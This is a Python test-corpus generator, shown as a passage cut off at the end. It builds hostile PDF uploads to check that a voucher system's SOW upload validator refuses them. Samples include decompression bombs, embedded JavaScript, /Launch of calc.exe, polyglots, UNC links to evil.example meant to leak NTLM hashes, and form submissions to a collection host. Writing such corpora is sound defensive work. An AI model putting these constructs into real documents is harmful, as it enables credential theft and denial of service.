"""Hostile uploads for the SOW/POE check (R-DOC-1): `python tests/hostile/make_corpus.py`.

Writes tests/hostile/files/ (committed, under 2 MB in all); tests/test_documents.py says what
each must be refused with. Template-based files are the real SOW template for voucher
CORPUS_CODE, so each would pass the text checks if the structural check let it through.

    png_renamed.pdf          a PNG image renamed .pdf                               not_pdf
    text_renamed.pdf         a plain-text file renamed .pdf                         not_pdf
    html_renamed.pdf         an HTML page (with a script) renamed .pdf              not_pdf
    gif_polyglot.pdf         "GIF89a" header, then the whole SOW template           not_pdf
    truncated.pdf            the SOW template cut in half                           not_pdf
    encrypted.pdf            the SOW template, RC4-128, user password "hostile"     encrypted
    encrypted_owner_only.pdf the SOW template, AES-256, empty user password         encrypted
    javascript.pdf           the SOW template, catalog /OpenAction JavaScript       javascript
    javascript_names.pdf     the SOW template, /Names /JavaScript tree              javascript
    javascript_orphan.pdf    the SOW template + an unreachable JS action (raw scan) javascript
    javascript_escaped.pdf   same, names written /J#61vaScript and /J#53            javascript
    javascript_objstm.pdf    /OpenAction JS in a compressed object stream (walk)    javascript
    launch.pdf               the SOW template, a link annotation with /Launch       launch
    open_action_uri.pdf      the SOW template, /OpenAction opening a URI (no JS)    open_action
    embedded_file.pdf        the SOW template with an attachment (add_attachment)   embedded_file
    bomb.pdf                 one page whose Flate content inflates to 520 MiB       too_complex
    nested_arrays.pdf        a page dictionary with arrays nested 5,000 deep        too_complex
    pages_10000.pdf          10,000 blank pages sharing one content stream          too_many_pages
    path_traversal.pdf       the valid SOW template, signed by both; uploaded as
                             ../../etc/passwd.pdf (accepted)
    links.pdf                the SOW template with what a template may link: /URI (https,
                             mailto), /GoTo, /Dest, an outline item and a /Next chain, then
                             signed by both (accepted)

Signed and scanned (R-DOC-1, round 2; tests/signing.py builds them, tests/test_document_trust.py
checks each): a template signed digitally must carry two intact signatures over the whole
document with nothing but form filling after them; a scan's every QR code must name this
voucher and this template:

    signature_gap.pdf        the customer's signature over a byte range whose gap is
                             64 bytes wider than the signature (re-signed: intact),
                             then the partner's                                signature_gap
    changed_after_signing.pdf  signed by both, then an incremental update that
                             draws on page 1                           changed_after_signing
    signature_broken.pdf     signed by both, then one signed byte changed   signature_broken
    scan_forged_qr.pdf       a scan (one page, 150 dpi) whose QR code was covered
                             with another voucher's                       scan_wrong_voucher
    scan_qr_unreadable.pdf   a scan (one page) whose QR code is smudged      scan_unreadable
    scan_bomb.pdf            an image-only page (a "scan") whose Flate image
                             inflates to 40 MiB                                  too_complex

Oversized (> 10 MB), empty and "another voucher's template" uploads are made at test time.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zlib
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, cast

if TYPE_CHECKING:
    from pypdf import PdfWriter

ROOT = Path(__file__).resolve().parents[2]
FILES = Path(__file__).resolve().parent / "files"
CORPUS_BODY = "7K3MQ9PXH4RTWB2"  # the voucher code's 15 random characters
BOMB_MIB = 520
CHAIN_BOMB_MIB = 768  # what the chained-filter bombs decode to
PAGES = 10_000
UNC = "\\\\evil.example\\share\\sow.pdf"  # \\evil.example\share\sow.pdf


def corpus_code() -> str:
    """The voucher the template-based files are made for (check character included)."""
    from vouchers.codes import _check_character, format_code

    return format_code(CORPUS_BODY + _check_character(CORPUS_BODY))


def _setup_django() -> None:
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings.test")
    import django

    django.setup()


def render_sow() -> bytes:
    """The SOW template for CORPUS_CODE, rendered without a database (unsaved objects)."""
    from customers.models import Customer
    from partners.models import Partner
    from programs.models import Offer, Program
    from redemptions.template_pdfs import render_context_pdf
    from vouchers.models import Voucher

    program = Program(code="FY24-MWSDO", name="FY24 Modern Work & Security Deployment Offer")
    voucher = Voucher(
        code=corpus_code(),
        program=program,
        customer=Customer(name="Contoso Pharmaceuticals Ltd", tpid="7654321", country="GB"),
        partner=Partner(name="Fabrikam Deployment Services", partner_id="P-00042", country="GB"),
        offer=Offer(program=program, code="DEPLOY", name="M365 Deployment Offer"),
        workloads=["M365_E3", "M365_E5"],
        scheme=Voucher.Scheme.COMMERCIAL,
        value=Decimal("37500.00"),
        issued_on=date(2024, 3, 1),
        expires_on=date(2024, 9, 1),
    )
    context = {
        "voucher": voucher,
        "kind": "sow",
        "title": "Statement of Work",
        "template_id": "FTDV-SOW-v1",
        "template_version": "1",
        "workload_names": ["Microsoft 365 E3", "Microsoft 365 E5"],
        "is_public_sector": False,
        "site_url": "https://vouchers.example.com",
        "generated_on": date(2024, 3, 1),
    }
    return render_context_pdf("sow", context)


# --- Built with pypdf from the template --------------------------------------------------


def _rewrite(base: bytes, change: Callable[[PdfWriter], object]) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict[str, str]) -> Callable[[PdfWriter], None]:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def change(writer: PdfWriter) -> None:
        entries = {
            NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
            for k, v in action.items()
        }
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(entries)

    return change


def _names_javascript(writer: PdfWriter) -> None:
    """A document-level script in the catalog's /Names /JavaScript tree (what pypdf's
    removed `add_js` wrote), reached through an indirect object."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('FastTrack');"),
        }
    )
    reference = writer._add_object(action)
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), reference])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _launch_link(writer: PdfWriter) -> None:
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (40, 700, 300, 760)]),
            NameObject("/Border"): ArrayObject([FloatObject(0)] * 3),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/Launch"),
                    NameObject("/F"): TextStringObject("C:\\Windows\\System32\\calc.exe"),
                }
            ),
        }
    )
    writer.add_annotation(page_number=0, annotation=annotation)


def _orphan(base: bytes, body: bytes) -> bytes:
    """`base` plus an incremental update adding object 9999, which no reference reaches:
    the parsed-object walk never meets it; only the raw-bytes scan does."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(base))
    root = reader.trailer.raw_get("/Root").idnum
    size = max(int(str(reader.trailer["/Size"])), 10_000)
    previous = int(base[base.rindex(b"startxref") + len(b"startxref") :].split()[0])
    obj = b"\n9999 0 obj\n" + body + b"\nendobj\n"
    xref = len(base) + len(obj)
    return (
        base
        + obj
        + b"xref\n9999 1\n%010d 00000 n \n" % (len(base) + 1)
        + b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, root, previous)
        + b"startxref\n%d\n%%%%EOF\n" % xref
    )


# --- Written by hand ---------------------------------------------------------------------


def _classic_pdf(objects: list[bytes]) -> bytes:
    """A PDF 1.7 file with a classic cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def bomb() -> bytes:
    """One page whose FlateDecode content stream inflates to BOMB_MIB MiB of zeros (the
    compressed bytes are built from zeros fed in 1 MiB chunks: the generator stays light)."""
    compressor = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    parts = [compressor.compress(zeros) for _ in range(BOMB_MIB)]
    parts.append(compressor.flush())
    return _classic_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            _stream(b"".join(parts), b" /Filter /FlateDecode"),
        ]
    )


def nested_arrays(depth: int = 5000) -> bytes:
    return _classic_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep "
            + b"[" * depth
            + b"]" * depth
            + b" >>",
        ]
    )


def _objstm_pdf(plain: dict[int, bytes], packed: list[tuple[int, bytes]]) -> bytes:
    """A PDF 1.5 file: the objects `plain` written as such, the objects `packed` inside one
    compressed object stream, and a compressed cross-reference stream. Object 1 is the
    catalog. Nothing in `packed` is visible in the raw bytes."""
    objstm = max([*plain, *(number for number, _text in packed)]) + 1
    xref_number = objstm + 1
    index, body = [], bytearray()
    for number, text in packed:
        index.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    head = b" ".join(index) + b"\n"
    stream_data = zlib.compress(head + bytes(body), 9)
    objects = {
        **plain,
        objstm: _stream(
            stream_data,
            b" /Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(head)),
        ),
    }

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, obj in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    offsets[xref_number] = len(out)
    in_stream = {number: i for i, (number, _text) in enumerate(packed)}
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in in_stream:
            rows.append(struct.pack(">BIH", 2, objstm, in_stream[number]))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0))
    xref_data = zlib.compress(b"".join(rows), 9)
    xref_dict = b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (
        xref_number + 1
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, _stream(xref_data, xref_dict))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def many_pages(count: int = PAGES, fan: int = 100) -> bytes:
    """`count` blank pages under `fan` intermediate page-tree nodes, all sharing one content
    stream; pages and nodes packed in an object stream, so 10,000 real page objects take
    about 100 KB."""
    content, first_node = 3, 4
    first_page = first_node + fan
    per_node = count // fan
    packed: list[tuple[int, bytes]] = []
    for node in range(fan):
        kids = b" ".join(b"%d 0 R" % (first_page + node * per_node + i) for i in range(per_node))
        packed.append(
            (
                first_node + node,
                b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (kids, per_node),
            )
        )
    for node in range(fan):
        for i in range(per_node):
            page = b"<< /Type /Page /Parent %d 0 R /Contents %d 0 R >>" % (
                first_node + node,
                content,
            )
            packed.append((first_page + node * per_node + i, page))
    root_kids = b" ".join(b"%d 0 R" % (first_node + node) for node in range(fan))
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (root_kids, count),
        content: _stream(b"q Q"),
    }
    return _objstm_pdf(plain, packed)


def javascript_in_object_stream() -> bytes:
    """A one-page PDF whose catalog, with an /OpenAction JavaScript, sits in a compressed
    object stream: invisible to the raw-bytes scan, found by the object walk."""
    text = (
        b"BT /F1 11 Tf 50 780 Td (Template FTDV-SOW-v1 Voucher %s) Tj ET" % corpus_code().encode()
    )
    plain = {3: _stream(text)}
    packed = [
        (
            1,
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
            b"/JS (app.alert\\(1\\)) >> >>",
        ),
        (2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
        (
            4,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
        ),
        (5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
    ]
    return _objstm_pdf(plain, packed)


def png() -> bytes:
    """A valid 1x1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


def gif_polyglot(pdf: bytes) -> bytes:
    """A 1x1 GIF89a whose trailing data is the PDF: PDF readers look for %PDF- in the first
    kilobyte, image viewers stop at the GIF trailer."""
    gif = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
        b"!\xf9\x04\x01\x00\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
    return gif + b"\n" + pdf


OTHER_VOUCHER_QR = "FTDV-SOW-V1:2222-3333-4444-5555"  # the same template, another voucher


def scan_bomb() -> bytes:
    """An image-only page (no text: read as a scan) drawing one A4 grey image at 150 dpi
    whose Flate data inflates to 40 MiB, past the 32 MiB a stream may decode to."""
    image = _image(_deflate_zeros(40), width=1240, height=1754, extra=b" /Filter /FlateDecode")
    return _classic_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            _stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
            image,
        ]
    )


def build() -> dict[str, bytes]:
    from tests import signing

    sow = render_sow()
    code = corpus_code().encode()
    files = {
        "png_renamed.pdf": png(),
        "text_renamed.pdf": b"Statement of Work\nVoucher " + code + b"\nTemplate FTDV-SOW-v1\n",
        "html_renamed.pdf": b"<!doctype html>\n<html><body><h1>Statement of Work</h1>"
        b"<script>alert(document.cookie)</script></body></html>\n",
        "gif_polyglot.pdf": gif_polyglot(sow),
        "truncated.pdf": sow[: len(sow) // 2],
        "encrypted.pdf": _rewrite(
            sow, lambda w: w.encrypt(user_password="hostile", algorithm="RC4-128")
        ),
        "encrypted_owner_only.pdf": _rewrite(
            sow,
            lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="AES-256"),
        ),
        "javascript.pdf": _rewrite(
            sow, _open_action({"/S": "/JavaScript", "/JS": "app.alert('FastTrack');"})
        ),
        "javascript_names.pdf": _rewrite(sow, _names_javascript),
        "javascript_orphan.pdf": _orphan(sow, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "javascript_escaped.pdf": _orphan(sow, b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "launch.pdf": _rewrite(sow, _launch_link),
        "open_action_uri.pdf": _rewrite(
            sow, _open_action({"/S": "/URI", "/URI": "https://example.com/track"})
        ),
        "embedded_file.pdf": _rewrite(
            sow, lambda w: w.add_attachment("readme.txt", b"Open the attached tool.\n")
        ),
        "bomb.pdf": bomb(),
        "nested_arrays.pdf": nested_arrays(),
        "javascript_objstm.pdf": javascript_in_object_stream(),
        "pages_10000.pdf": many_pages(),
        "path_traversal.pdf": signing.sign_both(sow),
        "links.pdf": signing.sign_both(_rewrite(sow, _allowed_links)),
        "signature_gap.pdf": signing.gap_signature(sow),
        "changed_after_signing.pdf": signing.changed_after_signing(sow),
        "signature_broken.pdf": signing.broken_signature(sow),
        "scan_forged_qr.pdf": signing.forged_qr_scan(sow, payload=OTHER_VOUCHER_QR),
        "scan_qr_unreadable.pdf": signing.unreadable_qr_scan(sow),
        "scan_bomb.pdf": scan_bomb(),
        "xfa_stream.pdf": _rewrite(sow, _xfa_stream),
        "action_gotor_unc.pdf": _rewrite(sow, _gotor_link),
        **allow_list_cases(),
    }
    return files


# --- The allow-list: what a signed template needs (R-DOC-1) ---------------------------------


def _allowed_links(writer: PdfWriter) -> None:
    """Everything a template may link, as WeasyPrint writes it: /URI links to https and
    mailto, a /GoTo and a /Dest link within the document, an outline item with a /GoTo
    action, and a /URI whose /Next chain goes on with a /GoTo."""
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        PdfObject,
        TextStringObject,
    )

    page = writer.pages[0].indirect_reference
    destination = ArrayObject([page, NameObject("/Fit")])

    def action(kind: str, **entries: object) -> DictionaryObject:
        action = DictionaryObject(
            {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
        )
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = (
                TextStringObject(value) if isinstance(value, str) else cast(PdfObject, value)
            )
        return action

    def link(top: int, **entries: object) -> DictionaryObject:
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [FloatObject(v) for v in (40, top, 300, top + 12)]
                ),
                NameObject("/BS"): DictionaryObject({NameObject("/W"): NumberObject(0)}),
            }
        )
        for key, value in entries.items():
            annotation[NameObject(f"/{key}")] = cast(PdfObject, value)
        return annotation

    for annotation in (
        link(700, A=action("/URI", URI="https://vouchers.example.com/vouchers/")),
        link(680, A=action("/URI", URI="mailto:fasttrack@example.com")),
        link(660, A=action("/GoTo", D=destination)),
        link(640, Dest=destination),
        link(
            620,
            A=action(
                "/URI",
                URI="https://vouchers.example.com/help",
                Next=ArrayObject([action("/GoTo", D=destination)]),
            ),
        ),
    ):
        writer.add_annotation(page_number=0, annotation=annotation)
    outlines = cast(DictionaryObject, writer.root_object["/Outlines"].get_object())
    first = cast(DictionaryObject, outlines["/First"].get_object())
    first[NameObject("/A")] = action("/GoTo", D=destination)
    del first["/Dest"]


def _xfa_stream(writer: PdfWriter) -> None:
    """An /AcroForm whose /XFA is one XDP stream: an XFA form, with its own scripts."""
    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject

    xdp = DecodedStreamObject()
    xdp.set_data(
        b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
        b'<template><subform><event activity="initialize"><script contentType='
        b'"application/x-javascript">app.alert(1)</script></event></subform></template>'
        b"</xdp:xdp>"
    )
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xdp)}
    )


def _gotor_link(writer: PdfWriter) -> None:
    """A link that opens a PDF on a UNC path: Windows sends the user's NTLM hash there."""
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (40, 700, 300, 760)]),
            NameObject("/Border"): ArrayObject([FloatObject(0)] * 3),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/GoToR"),
                    NameObject("/F"): TextStringObject(UNC),
                    NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
                }
            ),
        }
    )
    writer.add_annotation(page_number=0, annotation=annotation)


def _pdf_unc() -> bytes:
    """UNC as the body of a PDF literal string (each backslash escaped)."""
    return UNC.encode().replace(b"\\", b"\\\\")


def _text_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    content: bytes = b"",
    objects: tuple[bytes, ...] = (),
) -> bytes:
    """One A4 page with the line "Template FTDV-SOW-v1 Voucher <CORPUS_CODE>" in Helvetica,
    so it passes the text checks. `catalog`, `page` and `resources` are more entries for those
    dictionaries, `content` more page content, `objects` more objects numbered from 6."""
    text = b"BT /F1 11 Tf 50 780 Td (Template FTDV-SOW-v1 Voucher %s) Tj ET\n" % (
        corpus_code().encode()
    )
    return _classic_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >>" + resources + b" >>" + page + b" >>",
            _stream(text + content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *objects,
        ]
    )


def _link_pdf(action: bytes, *objects: bytes) -> bytes:
    """`_text_pdf` with one link annotation (object 6) whose /A is `action`."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [40 700 300 760] /Border [0 0 0] /A %s >>"
    return _text_pdf(page=b" /Annots [6 0 R]", objects=(link % action, *objects))


def _annotation_pdf(annotation: bytes, *objects: bytes) -> bytes:
    """`_text_pdf` with the annotation `annotation` (object 6) on the page."""
    return _text_pdf(page=b" /Annots [6 0 R]", objects=(annotation, *objects))


def _jpeg_header(width: int, height: int) -> bytes:
    """The start of a baseline JPEG (SOI, APP0, SOF0) of `width` x `height`, then EOI: enough
    for a decoder to allocate the picture."""
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03"
    sof0 += b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


def _jpx_header(width: int, height: int) -> bytes:
    """A JPEG 2000 codestream start (SOC, SIZ) of `width` x `height`, one 8-bit component."""
    siz = struct.pack(">HHIIIIIIIIH", 41, 0, width, height, 0, 0, width, height, 0, 0, 1)
    return b"\xff\x4f\xff\x51" + siz + b"\x07\x01\x01" + b"\xff\xd9"


def _image(data: bytes, *, width: int, height: int, extra: bytes) -> bytes:
    return _stream(
        data,
        b" /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8%s" % (width, height, extra),
    )


def _image_pdf(image: bytes) -> bytes:
    """`_text_pdf` with `image` (object 6) as /Im1 in the page's resources, not drawn."""
    return _text_pdf(resources=b" /XObject << /Im1 6 0 R >>", objects=(image,))


def _deflate_zeros(mib: int) -> bytes:
    compressor = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    parts = [compressor.compress(zeros) for _ in range(mib)]
    parts.append(compressor.flush())
    return b"".join(parts)


def lzw_zeros(size: int) -> bytes:
    """LZW (EarlyChange 1, as PDF writes it) of `size` zero bytes, built without the input:
    on zeros each code stands for one zero more than the one before, and a clear code starts
    a new table before it is full."""
    out = bytearray()
    bits = pending = 0

    def emit(code: int, width: int) -> None:
        nonlocal bits, pending
        bits = (bits << width) | code
        pending += width
        while pending >= 8:
            pending -= 8
            out.append((bits >> pending) & 0xFF)
        bits &= (1 << pending) - 1

    left, width = size, 9
    while left > 0:
        emit(256, width)  # clear: a new table, codes of 9 bits again
        width, next_code, run = 9, 258, 1
        emit(0, width)  # one zero
        left -= 1
        while left > 0 and next_code < 4000:
            run = min(run + 1, left)
            emit(256 + run if run > 1 else 0, width)  # 258 + k stands for k + 2 zeros
            left -= run
            next_code += 1  # what the decoder adds after each code
            if next_code + 1 >= 1 << width and width < 12:  # EarlyChange 1
                width += 1
    emit(257, width)  # end of data
    if pending:
        out.append((bits << (8 - pending)) & 0xFF)
    return bytes(out)


def allow_list_cases() -> dict[str, bytes]:
    """The corpus files refused by what a signed template needs (R-DOC-1), built by hand."""
    code = corpus_code().encode()
    flate_flate = zlib.compress(_deflate_zeros(CHAIN_BOMB_MIB), 9)
    runs = zlib.compress(b"\x81\x00" * (512 * 1024), 9)  # each pair: 128 zeros; 64 MiB
    text = b"BT /F1 11 Tf 50 780 Td (Template FTDV-SOW-v1 Voucher %s) Tj ET" % code
    xfa = _stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    media_clip = (
        b"<< /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) "
        b"/D << /Type /Filespec /F (clip.mp4) >> >> >>"
    )
    sound = _stream(b"\x00" * 16, b" /Type /Sound /R 8000 /C 1 /B 8 /E /Raw")
    return {
        "xfa_array.pdf": _text_pdf(
            catalog=b" /AcroForm << /Fields [] /XFA [(template) 6 0 R (datasets) 7 0 R] >>",
            objects=(xfa, _stream(b"<xfa:datasets/>")),
        ),
        "javascript_uri.pdf": _link_pdf(b"<< /S /URI /URI (javascript:app.alert(1)) >>"),
        "javascript_objstm_orphan.pdf": _objstm_pdf(
            {3: _stream(text)},
            [
                (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
                (2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
                (
                    4,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
                    b"/Resources << /Font << /F1 5 0 R >> >> >>",
                ),
                (5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
                (6, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),  # no reference reaches it
            ],
        ),
        "action_gotoe.pdf": _link_pdf(
            b"<< /S /GoToE /T << /R /C /N (attachment.pdf) >> /D [0 /Fit] >>"
        ),
        "action_uri_file.pdf": _link_pdf(b"<< /S /URI /URI (file://evil.example/share/sow.pdf) >>"),
        "action_submitform.pdf": _text_pdf(
            catalog=b" /AcroForm << /Fields [6 0 R] >>",
            page=b" /Annots [6 0 R]",
            objects=(
                b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) "
                b"/Rect [40 700 300 760] /P 3 0 R /A << /S /SubmitForm "
                b"/F << /FS /URL /F (https://collect.example.com/form) >> /Flags 4 >> >>",
            ),
        ),
        "action_importdata.pdf": _link_pdf(b"<< /S /ImportData /F (%s) >>" % _pdf_unc()),
        "action_resetform.pdf": _link_pdf(b"<< /S /ResetForm >>"),
        "action_hide.pdf": _link_pdf(b"<< /S /Hide /T (signature) /H true >>"),
        "action_named.pdf": _link_pdf(b"<< /S /Named /N /Print >>"),
        "action_sound.pdf": _link_pdf(b"<< /S /Sound /Sound 7 0 R >>", sound),
        "action_movie.pdf": _link_pdf(b"<< /S /Movie /T (clip) /Operation /Play >>"),
        "action_rendition.pdf": _link_pdf(b"<< /S /Rendition /OP 0 /R 7 0 R >>", media_clip),
        "action_richmedia_execute.pdf": _link_pdf(
            b"<< /S /RichMediaExecute /TA 6 0 R /CMD << /C (play) >> >>"
        ),
        "action_setocgstate.pdf": _link_pdf(b"<< /S /SetOCGState /State [/OFF] >>"),
        "action_trans.pdf": _link_pdf(b"<< /S /Trans /Trans << /S /Dissolve >> >>"),
        "action_goto3dview.pdf": _link_pdf(b"<< /S /GoTo3DView /TA 6 0 R /V /F >>"),
        "action_unknown.pdf": _link_pdf(b"<< /S /Exec /Cmd (calc.exe) >>"),
        "action_outline_gotor.pdf": _text_pdf(
            catalog=b" /Outlines 6 0 R",
            objects=(
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Signatures) /Parent 6 0 R /A << /S /GoToR /F (%s) /D [0 /Fit] >> >>"
                % _pdf_unc(),
            ),
        ),
        "action_next_chain.pdf": _link_pdf(
            b"<< /S /URI /URI (https://vouchers.example.com/) "
            b"/Next [<< /S /GoTo /D [3 0 R /Fit] >> 7 0 R] >>",
            b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.com/) >> >>",
        ),
        "media_richmedia.pdf": _annotation_pdf(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [40 500 300 760] "
            b"/RichMediaContent << /Assets << /Names [] >> /Configurations [] >> >>"
        ),
        "media_screen.pdf": _annotation_pdf(
            b"<< /Type /Annot /Subtype /Screen /Rect [40 500 300 760] /T (clip) >>"
        ),
        "media_renditions.pdf": _text_pdf(
            catalog=b" /Names << /Renditions << /Names [(clip) 6 0 R] >> >>",
            objects=(media_clip,),
        ),
        "media_3d.pdf": _annotation_pdf(
            b"<< /Type /Annot /Subtype /3D /Rect [40 500 300 760] /3DD 7 0 R >>",
            _stream(b"U3D\x00", b" /Type /3D /Subtype /U3D"),
        ),
        "media_movie.pdf": _annotation_pdf(
            b"<< /Type /Annot /Subtype /Movie /Rect [40 500 300 760] /Movie << /F (clip.mov) >> >>"
        ),
        "media_sound.pdf": _annotation_pdf(
            b"<< /Type /Annot /Subtype /Sound /Rect [40 700 60 720] /Sound 7 0 R >>", sound
        ),
        "file_attachment.pdf": _annotation_pdf(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [40 700 60 720] "
            b"/FS << /Type /Filespec /F (tool.exe) >> >>"
        ),
        "bomb_flate_flate.pdf": _image_pdf(
            _image(
                flate_flate,
                width=1000,
                height=1000,
                extra=b" /Filter [/FlateDecode /FlateDecode]",
            )
        ),
